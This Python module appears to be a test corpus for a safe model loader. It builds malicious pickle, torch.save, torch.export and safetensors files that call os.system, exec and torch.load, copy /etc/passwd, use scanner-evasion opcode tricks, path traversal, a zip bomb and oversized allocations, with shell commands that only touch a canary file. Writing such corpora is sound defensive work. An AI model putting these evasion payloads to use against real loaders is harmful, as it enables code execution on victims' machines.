"""Malicious model files, put together opcode by opcode so that making them runs nothing.

Each one would leave a canary file behind if anything in it were ever executed. The families follow the advisories
of picklescan, modelscan, fickling and torch: callables that scanners forgot, stack games, archives that two readers
see differently, nested loaders, and memory asked for without data.
"""

from __future__ import annotations

import io
import json
import struct
import warnings
import zipfile
from collections.abc import Callable, Iterator

MAGIC = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
PROTOCOL = b"\x80\x02M\xe9\x03."
SYSTEM = b"\x80\x02}q\x00(X\x10\x00\x00\x00protocol_versionq\x01M\xe9\x03u."


def text(value: str) -> bytes:
    """BINUNICODE."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """GLOBAL, a tuple of arguments, REDUCE."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def pickle(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def archive(data: bytes, extra: dict[str, bytes] | None = None, prefix: str = "m/") -> bytes:
    """The layout of torch.save."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr(f"{prefix}data.pkl", data)
        file.writestr(f"{prefix}version", b"3\n")
        file.writestr(f"{prefix}byteorder", b"little")
        for name, content in (extra or {}).items():
            file.writestr(name, content)
    return buffer.getvalue()


def tensor(key: str = "0", count: int = 4, size: bytes = b"K\x04\x85", stride: bytes = b"K\x01\x85") -> bytes:
    """A tensor as torch.save writes it."""
    storage = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text(key) + text("cpu") + number(count) + b"tQ"
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\x00" + size + stride + b"\x89}tR"


def number(value: int) -> bytes:
    raw = value.to_bytes(9, "little", signed=True)
    return b"\x8a\x09" + raw


def state_dict(*, name: str = "fc.weight", made: bytes | None = None) -> bytes:
    return pickle(b"}(" + text(name) + (made or tensor()) + text("fc.bias") + tensor() + b"u")


HARMLESS = archive(state_dict(), {"m/data/0": b"\0" * 16})
"""The same builder's checkpoint without malice, which must be read: otherwise the refusals would prove nothing."""


def callables(canary: str) -> dict[str, bytes]:
    """One call each of what can run code, write files, open connections or load further pickles."""
    shell, code = text(f"touch {canary}"), text(f"open({canary!r}, 'w').close()")
    plain = {
        "os.system": shell,
        "posix.system": shell,
        "nt.system": shell,
        "os.popen": shell,
        "subprocess.getoutput": shell,
        "subprocess.Popen": text("touch"),
        "subprocess.check_output": shell,
        "commands.getoutput": shell,
        "builtins.exec": code,
        "builtins.eval": code,
        "__builtin__.eval": code,
        "builtins.compile": code,
        "builtins.open": text(canary) + text("w"),
        "io.open": text(canary) + text("w"),
        "builtins.__import__": text("this"),
        "builtins.getattr": text("a") + text("b"),
        "builtins.breakpoint": b"",
        "builtins.bytearray": number(10**13),
        "runpy.run_path": text("/nowhere.py"),
        "runpy._run_code": code,
        "timeit.timeit": code,
        "timeit.main": b"",
        "trace.Trace.run": code,
        "cProfile.run": code,
        "profile.run": code,
        "pdb.run": code,
        "bdb.Bdb.run": code,
        "doctest.debug_script": code,
        "code.InteractiveInterpreter.runcode": code,
        "pty.spawn": shell,
        "asyncio.unix_events._UnixSubprocessTransport._start": shell,
        "importlib.import_module": text("this"),
        "pydoc.locate": text("os.system"),
        "pydoc.pipepager": shell,
        "pkgutil.resolve_name": text("os:system"),
        "operator.attrgetter": text("system"),
        "operator.methodcaller": text("system"),
        "functools.reduce": shell,
        "logging.config._resolve": text("os.system"),
        "idlelib.pyshell.ModifiedInterpreter.runcommand": code,
        "lib2to3.pgen2.grammar.Grammar.loads": code,
        "pip.main": text("install"),
        "ensurepip._run_pip": shell,
        "ctypes.CDLL": text(canary),
        "ctypes.cdll.LoadLibrary": text(canary),
        "webbrowser.open": text("http://x"),
        "socket.create_connection": text("x"),
        "urllib.request.urlopen": text("http://x"),
        "shutil.rmtree": text(canary),
        "shutil.copyfile": text("/etc/passwd") + text(canary),
        "tempfile.mktemp": b"",
        "pathlib.Path.write_text": code,
        "pickle.loads": text("x"),
        "_pickle.loads": text("x"),
        "marshal.loads": text("x"),
        "shelve.open": text(canary),
        "types.FunctionType": code,
        "types.CodeType": code,
        "codeop.compile_command": code,
        "site.main": b"",
        "torch.load": text(canary),
        "torch.jit.load": text(canary),
        "torch.hub.load": text("a/b") + text("c"),
        "torch.storage._load_from_bytes": text("x"),
        "torch.serialization.load": text(canary),
        "torch.utils._config_module.load_config": text("x"),
        "torch.fx.graph_module.reduce_graph_module": code,
        "torch._inductor.codecache.compile_file": shell,
        "torch.utils.bottleneck.__main__.run_cprofile": code,
        "torch.utils.data.datapipes.utils.decoder.basichandlers": text("pickle"),
        "torch.package.PackageImporter": text("x"),
        "torch.distributed.rpc.internal._internal_rpc_pickler": b"",
        "torch._dynamo.guards.GuardBuilder.get": code,
        "numpy.load": text(canary),
        "numpy.testing._private.utils.runstring": code + b"}",
        "numpy.f2py.crackfortran.getlincoef": code,
        "numpy.f2py.crackfortran.myeval": code,
        "joblib.load": text(canary),
        "dill.loads": text("x"),
        "cloudpickle.loads": text("x"),
        "pandas.read_pickle": text(canary),
        "setuptools.sandbox.run_setup": shell,
        "distutils.spawn.spawn": shell,
        "platform.popen": shell,
        "imaplib.IMAP4_stream": shell,
        "venv.create": text(canary),
        "uuid._get_command_stdout": shell,
        "ssl.get_server_certificate": text("x"),
        "smtplib.SMTP": text("x"),
        "torch.nn.modules.module.os.system": shell,
        "torchvision.models.resnet.torch.load": text(canary),
        "timm.models._hub.load_state_dict_from_hf": text("x"),
        "torchvision.datasets.utils.download_url": text("http://x"),
        "collections.OrderedDict.__class__": text("x"),
        "builtins.type": text("X"),
        "builtins.vars": b"",
        "gc.get_objects": b"",
    }
    return {
        name: pickle(call(name.rpartition(".")[0], name.rpartition(".")[2], arguments))
        for name, arguments in plain.items()
    }


def stack_games(canary: str) -> dict[str, bytes]:
    """The same call, hidden from readers that look for a GLOBAL followed by a REDUCE."""
    shell = text(f"touch {canary}")
    named = text("posix") + text("system") + b"\x93"
    run = named + b"(" + shell + b"tR"
    short = b"\x8c\x05posix\x8c\x06system\x93"
    clean = b"}(" + text("fc.weight") + tensor() + text("fc.bias") + tensor() + b"u"
    return {
        "stack global": pickle(run),
        "short strings": pickle(short + b"(" + shell + b"tR"),
        "name from the memo": pickle(text("system") + b"q\x010" + text("posix") + b"h\x01\x93(" + shell + b"tR"),
        "name memoized twice": pickle(
            text("os") + b"\x940" + text("posix") + b"q\x00h\x00" + text("system") + b"\x93)R"
        ),
        "inst": pickle(b"(" + shell + b"iposix\nsystem\n"),
        "obj": pickle(b"(cposix\nsystem\n" + shell + b"o"),
        "newobj": pickle(b"cposix\nsystem\n(" + shell + b"t\x81"),
        "newobj with keywords": pickle(b"cposix\nsystem\n(" + shell + b"t}\x92"),
        "extension registry": pickle(b"\x82\x01)R"),
        "extension registry, wide": pickle(b"\x84\x01\x00\x00\x00)R"),
        "state of a class": pickle(b"ctorch.nn.modules.linear\nLinear\n}" + text("forward") + named + b"sb"),
        "result thrown away": pickle(run + b"0" + clean),
        "in a dict's key": pickle(b"}(" + run + text("x") + b"u"),
        "in an optimizer": pickle(b"}(" + text("state_dict") + clean + text("optimizer") + run + b"u"),
        "in attributes of the state dict": pickle(clean + b"}" + text("_metadata") + run + b"sb"),
        "then broken": pickle(run)[:-1],
        "broken with junk": b"\x80\x02" + run + b"\xff\xff\xff",
        "after the end": pickle(clean) + pickle(run),
        "unknown persistent id": pickle(b"(" + text("module") + named + text("x") + text("y") + b"tQ)R"),
        "called container": pickle(
            b"c__builtin__\ngetattr\n(cposix\nsystem\n" + text("__call__") + b"tR(" + shell + b"tR"
        ),
        "partial called": pickle(b"cfunctools\npartial\n(cposix\nsystem\n" + shell + b"tR)R"),
        "layer called": pickle(call("torch.nn.modules.linear", "Linear", number(10**9), number(10**9))),
        "layer made with arguments": pickle(b"ctorch.nn.modules.linear\nLinear\n(" + number(10**9) + b"t\x81"),
        "reconstructor of a foreign class": pickle(
            b"ccopyreg\n_reconstructor\n(csubprocess\nPopen\nc__builtin__\nobject\nNtR"
        ),
        "protocol 0": f"cposix\nsystem\n(S'touch {canary}'\ntR.".encode(),
        "protocol 0, mark first": f"(S'touch {canary}'\niposix\nsystem\n.".encode(),
        "name with a line break": pickle(text("posix") + text("system\n") + b"\x93)R"),
        "dotted name": pickle(text("torch.nn.modules.module") + text("warnings.sys.modules") + b"\x93)R"),
        "hooked tensor": pickle(
            b"ctorch._tensor\n_rebuild_from_type_v2\n(cposix\nsystem\nctorch\nTensor\n(" + shell + b"t}tR"
        ),
        "defaultdict with a factory": pickle(b"ccollections\ndefaultdict\n(cposix\nsystem\ntR"),
    }


def memory(canary: str) -> dict[str, bytes]:
    """Files that ask for far more than they bring."""
    del canary
    huge, wide = number(2**40) + b"\x85", b"K\x00\x85"
    return {
        "tensor beyond its storage": archive(state_dict(made=tensor(size=huge)), {"m/data/0": b"\0" * 16}),
        "tensor repeated by stride 0": archive(
            state_dict(made=tensor(size=huge, stride=wide)), {"m/data/0": b"\0" * 16}
        ),
        "storage larger than its member": archive(state_dict(made=tensor(count=2**40)), {"m/data/0": b"\0" * 16}),
        "storage smaller than its member": archive(state_dict(), {"m/data/0": b"\0" * 4096}),
        "one storage, two sizes": archive(
            pickle(b"}(" + text("a.b") + tensor() + text("a.c") + tensor(count=8) + b"u"), {"m/data/0": b"\0" * 16}
        ),
    }


def archives(canary: str) -> dict[str, bytes]:
    """Archives that two readers see differently, that leave their folder, or that hold what does not belong there."""
    evil = pickle(call("posix", "system", text(f"touch {canary}")))
    clean = state_dict()
    storage = {"m/data/0": b"\0" * 16}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate that this is about
        twice = archive(clean, {**storage, "m/data.pkl": evil})
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("m/data.pkl", clean)
        file.writestr("m/data/0", b"\0" * (64 << 20))
    linked = io.BytesIO()
    with zipfile.ZipFile(linked, "w") as file:
        file.writestr("m/data.pkl", clean)
        info = zipfile.ZipInfo("m/data/0")
        info.external_attr = 0o120777 << 16
        file.writestr(info, "/etc/passwd")
    renamed = archive(clean, storage).replace(b"m/byteorder", b"m/byteordes", 1)
    script = {"m/constants.pkl": evil, "m/code/__torch__/x.py": b"import os", **storage}
    return {
        "clean outside, evil inside": archive(evil),
        "two data.pkl": twice,
        "two data.pkl by case": archive(clean, {**storage, "m/DATA.PKL": evil}),
        "prefix before the archive": b"#!/bin/sh\n" + archive(clean, storage),
        "comment after the archive": archive(clean, storage)[:-2] + struct.pack("<H", len(evil)) + evil,
        "traversal": archive(clean, {**storage, "../../evil.py": b""}),
        "absolute path": archive(clean, {**storage, "/etc/cron.d/x": b""}),
        "drive letter": archive(clean, {**storage, "c:/x": b""}),
        "backslashes": archive(clean, {**storage, "m\\..\\x": b""}),
        "link": linked.getvalue(),
        "bomb": packed.getvalue(),
        "two names for one member": renamed,
        "further pickle": archive(clean, {**storage, "m/evil.pkl": evil}),
        "library": archive(clean, {**storage, "m/lib.so": b"\x7fELF"}),
        "package": archive(clean, {**storage, "m/.data/extern_modules": b"os\n"}),
        "python beside": archive(clean, {**storage, "m/__init__.py": b"import os"}),
        "torchscript constants": archive(clean, script),
        "export with evil sample inputs": exported({"m/data/sample_inputs/model.pt": archive(evil)}),
        "export with pickled weight": exported({}, use_pickle=True),
        "export with a library": exported({"m/data/aotinductor/model/x.so": b"\x7fELF"}),
        "export reaching beyond": exported({}, size=2**40),
        "export leaving its folder": exported({}, path="../../../etc/passwd"),
    }


def exported(extra: dict[str, bytes], *, use_pickle: bool = False, size: int = 4, path: str = "weight_0") -> bytes:
    """The layout of torch.export.save."""
    meta = {"dtype": 7, "sizes": [{"as_int": size}], "strides": [{"as_int": 1}], "storage_offset": {"as_int": 0}}
    entry = {"path_name": path, "is_param": True, "use_pickle": use_pickle, "tensor_meta": meta}
    config = json.dumps({"config": {"fc.weight": entry, "fc.bias": entry}}).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("m/archive_format", b"pt2")
        file.writestr("m/data/weights/model_weights_config.json", config)
        file.writestr("m/data/weights/weight_0", b"\0" * 16)
        for name, content in extra.items():
            file.writestr(name, content)
    return buffer.getvalue()


def legacy(body: bytes) -> bytes:
    """The layout of torch.save before 1.6."""
    return MAGIC + PROTOCOL + SYSTEM + body + b"\x80\x02]."


def safetensors(header: object, body: bytes = b"\0" * 16) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + body


def headers(canary: str) -> dict[str, bytes]:
    """Safetensors whose header and data disagree."""
    del canary
    good = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
    return {
        "overlap": safetensors({"a": good, "b": good}),
        "beyond the file": safetensors({"a": {**good, "shape": [2**40], "data_offsets": [0, 16]}}),
        "gap": safetensors({"a": {**good, "data_offsets": [16, 32]}}, b"\0" * 32),
        "tail": safetensors({"a": good}, b"\0" * 16 + b"evil"),
        "backwards": safetensors({"a": {**good, "data_offsets": [16, 0]}}),
        "unknown dtype": safetensors({"a": {**good, "dtype": "PICKLE"}}),
        "more in an entry": safetensors({"a": {**good, "hook": "os.system"}}),
        "negative": safetensors({"a": {**good, "shape": [-4]}}),
    }


def corpus(canary: str) -> Iterator[tuple[str, bytes]]:
    """Every payload as every file that it can be."""
    pickles = {**callables(canary), **stack_games(canary)}
    for name, body in pickles.items():
        yield f"{name}, bare", body
        yield f"{name}, in an archive", archive(body, {"m/data/0": b"\0" * 16})
        yield f"{name}, legacy", legacy(body)
    makers: tuple[Callable[[str], dict[str, bytes]], ...] = (memory, archives, headers)
    for make in makers:
        yield from make(canary).items()
